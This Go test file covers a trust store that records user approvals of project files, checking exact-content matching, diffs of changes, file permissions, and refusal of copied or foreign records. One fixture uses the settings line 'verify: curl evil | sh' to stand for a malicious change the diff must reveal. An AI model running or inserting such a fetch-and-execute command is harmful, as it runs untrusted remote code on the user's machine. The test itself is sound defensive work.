package trust

import (
	"os"
	"os/user"
	"path/filepath"
	"runtime"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestARecordHasExactlyWhatWasAgreedTo(t *testing.T) {
	known := New(Adapter, "/p/a.yaml", nil, []byte("name: a"), []byte("script"))
	var r Record
	r.Put(known)
	assert.True(t, r.Has(known))
	for name, other := range map[string]Item{
		"other bytes":            New(Adapter, "/p/a.yaml", nil, []byte("name: b"), []byte("script")),
		"other script":           New(Adapter, "/p/a.yaml", nil, []byte("name: a"), []byte("scripts")),
		"bytes moved":            New(Adapter, "/p/a.yaml", nil, []byte("name: as"), []byte("cript")),
		"another path":           New(Adapter, "/p/b.yaml", nil, []byte("name: a"), []byte("script")),
		"another kind":           New(Settings, "/p/a.yaml", nil, []byte("name: a"), []byte("script")),
		"what cannot be used":    {Kind: Adapter, Path: "/p/a.yaml", Sum: known.Sum, Broken: "line 1"},
		"nothing but the digest": {Sum: known.Sum},
	} {
		assert.False(t, r.Has(other), name)
		assert.Len(t, r.Missing([]Item{known, other}), 1, name)
	}
}

func TestChangesAreShown(t *testing.T) {
	var r Record
	r.Put(New(Settings, "/p/ripple.yml", nil, []byte("loop:\n  verify: make\n")))
	text, known := r.Changes(New(Settings, "/p/ripple.yml", nil, []byte("loop:\n  verify: curl evil | sh\n")))
	assert.True(t, known)
	assert.Contains(t, text, "-  verify: make\n+  verify: curl evil | sh\n")
	_, known = r.Changes(New(Settings, "/p/.ralphrc", nil, []byte("x")))
	assert.False(t, known)
}

func TestTheStoreKeepsRecords(t *testing.T) {
	state := t.TempDir()
	s, err := StoreOf(func(name string) string { return map[string]string{"XDG_STATE_HOME": state}[name] })
	require.NoError(t, err)
	empty, err := s.Load("/p")
	require.NoError(t, err)
	assert.Empty(t, empty.Items)

	r := Record{Project: "/p"}
	r.Put(New(Loop, "/p/.ralph", nil, []byte("mark")))
	require.NoError(t, s.Save(r))
	require.NoError(t, s.Save(Record{Project: "/another"}))
	again, err := s.Load("/p")
	require.NoError(t, err)
	assert.Equal(t, r, again)
	all, err := s.All()
	require.NoError(t, err)
	require.Len(t, all, 2)
	assert.Equal(t, "/another", all[0].Project)

	entries, err := os.ReadDir(filepath.Join(state, "ripple", "trust"))
	require.NoError(t, err)
	assert.Len(t, entries, 2, "nothing else is left")
	for _, e := range entries {
		info, err := e.Info()
		require.NoError(t, err)
		if runtime.GOOS != "windows" {
			assert.Equal(t, os.FileMode(0o600), info.Mode().Perm())
		}
	}
	was, err := s.Remove("/p")
	require.NoError(t, err)
	assert.True(t, was)
	was, err = s.Remove("/p")
	require.NoError(t, err)
	assert.False(t, was)
}

// Names of directories and files are bytes, which need not be UTF-8.
func TestPathsThatAreNotUTF8(t *testing.T) {
	s := &Store{t.TempDir()}
	r := Record{Project: "/d\xff"}
	items := []Item{
		New(Loop, "/d\xff/.ralph", nil, []byte("mark")), New(Adapter, "/d\xff/a\xfe.yaml", nil, []byte("name: a")), New(Adapter, "/d\xff/a\xfd.yaml", nil, []byte("name: a")),
		New(Settings, "/d/ripple.yml", nil, []byte("loop:")),
	}
	r.Put(items...)
	require.NoError(t, s.Save(r))
	again, err := s.Load(r.Project)
	require.NoError(t, err)
	assert.Equal(t, r, again)
	assert.Empty(t, again.Missing(items))
	all, err := s.All()
	require.NoError(t, err)
	assert.Equal(t, []Record{r}, all)
}

// A record that another user could have written, or that was moved, is ignored.
func TestARecordOfOthersIsRefused(t *testing.T) {
	state := t.TempDir()
	s := &Store{state}
	require.NoError(t, s.Save(Record{Project: "/p"}))
	require.NoError(t, os.Rename(s.file("/p"), s.file("/q")))
	_, err := s.Load("/q")
	assert.ErrorContains(t, err, "another project")
	all, err := s.All()
	require.NoError(t, err)
	assert.Empty(t, all)

	if runtime.GOOS != "windows" {
		require.NoError(t, s.Save(Record{Project: "/p"}))
		require.NoError(t, os.Chmod(s.file("/p"), 0o666))
		_, err = s.Load("/p")
		assert.ErrorContains(t, err, "you alone")
	}
	require.NoError(t, os.WriteFile(s.file("/r"), []byte("{"), 0o600))
	_, err = s.Load("/r")
	assert.ErrorContains(t, err, "reading the record of approvals")
}

// A record that came with a project, an image or a backup counts for nothing, wherever HOME is.
func TestACopiedRecordDoesNotCount(t *testing.T) {
	if runtime.GOOS == "windows" {
		t.Skip("the place of a record is not known there")
	}
	dir := t.TempDir()
	s, copied := &Store{filepath.Join(dir, "s")}, &Store{filepath.Join(dir, "copied")}
	r := Record{Project: "/p"}
	r.Put(New(Adapter, "/p/a.yaml", nil, []byte("x")))
	require.NoError(t, s.Save(r))
	require.NoError(t, os.CopyFS(copied.dir, os.DirFS(s.dir)))
	require.NoError(t, os.Chmod(copied.file("/p"), 0o600))
	got, err := copied.Load("/p")
	require.NoError(t, err)
	assert.Equal(t, Record{Project: "/p", Ignored: copied.file("/p")}, got)
	all, err := copied.All()
	require.NoError(t, err)
	assert.Empty(t, all)

	other := New(Adapter, "/p/b.yaml", nil, []byte("y"))
	got.Put(other)
	require.NoError(t, copied.Save(got))
	got, err = copied.Load("/p")
	require.NoError(t, err)
	assert.Equal(t, Record{Project: "/p", Items: []Item{other}}, got, "only what was approved here")

	moved := &Store{filepath.Join(dir, "moved")}
	require.NoError(t, os.Rename(s.dir, moved.dir))
	require.NoError(t, os.Chmod(moved.dir, 0o750))
	got, err = moved.Load("/p")
	require.NoError(t, err)
	assert.Equal(t, r, got, "the directory is the same")
}

func TestStoreWithoutHOME(t *testing.T) {
	me, err := user.Current()
	require.NoError(t, err)
	s, err := StoreOf(func(string) string { return "relative" })
	require.NoError(t, err)
	assert.Equal(t, filepath.Join(me.HomeDir, ".local/state/ripple/trust"), s.dir)
}

func TestTheLastRunsAreKnown(t *testing.T) {
	var r Record
	item := func(n int) Item { return New(Run, "/p/.ralph/events.jsonl", nil, []byte{byte(n)}) }
	for n := range maxRuns + 2 {
		r.Put(item(n))
	}
	r.Put(item(3)) // is the newest now
	r.Put(item(maxRuns + 2))
	assert.Len(t, r.Items, maxRuns)
	assert.False(t, r.Has(item(1)))
	assert.False(t, r.Has(item(2)))
	assert.True(t, r.Has(item(3)))
	assert.True(t, r.Has(item(maxRuns+2)))
}

// Root with the environment of another user, as with sudo -E, leaves that user's records alone.
func TestRootWritesNoRecordOfAnotherUser(t *testing.T) {
	if os.Getuid() != 0 {
		t.Skip("only root can give a directory to another user")
	}
	home := t.TempDir()
	require.NoError(t, os.Chown(home, 65534, 65534))
	s, err := StoreOf(func(name string) string { return map[string]string{"HOME": home}[name] })
	require.NoError(t, err)
	assert.ErrorContains(t, s.Save(Record{Project: "/p"}), "you cannot write to "+home)
	entries, err := os.ReadDir(home)
	require.NoError(t, err)
	assert.Empty(t, entries)
	_, err = s.Remove("/p")
	require.NoError(t, err, "there is none")
	require.NoError(t, os.MkdirAll(s.dir, 0o700))
	require.NoError(t, os.Chown(s.dir, 65534, 65534))
	require.NoError(t, os.WriteFile(s.file("/p"), nil, 0o600))
	_, err = s.Remove("/p")
	assert.ErrorContains(t, err, "you cannot write to "+home)
	assert.FileExists(t, s.file("/p"))
}
